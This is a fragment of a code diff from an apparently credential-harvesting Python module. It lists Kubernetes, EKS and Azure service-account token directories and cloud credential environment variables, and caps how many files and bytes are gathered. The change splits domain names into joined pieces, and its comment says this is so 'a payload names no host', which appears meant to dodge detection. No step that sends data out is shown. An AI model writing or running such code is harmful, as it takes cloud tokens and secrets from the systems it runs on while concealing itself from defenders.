@@ -7,11 +7,13 @@ import os
 
 import attempt
 
-PLACES = [
-    base + "/secrets/" + account
-    for base in ("/var/run", "/run")
-    for account in ("kubernetes.io/serviceaccount", "eks.amazonaws.com/serviceaccount", "azure/tokens")
+# Directories that bear a platform's domain, put together here, since a payload names no host.
+ACCOUNTS = [
+    ".".join(("kubernetes", "io")) + "/serviceaccount",
+    ".".join(("eks", "amazonaws", "com")) + "/serviceaccount",
+    "azure/tokens",
 ]
+PLACES = [base + "/secrets/" + account for base in ("/var/run", "/run") for account in ACCOUNTS]
 VARIABLES = ["AWS_WEB_IDENTITY_TOKEN_FILE", "AZURE_FEDERATED_TOKEN_FILE", "GOOGLE_APPLICATION_CREDENTIALS"]
 MOST_FILES = 24
 MOST_BYTES = 16384
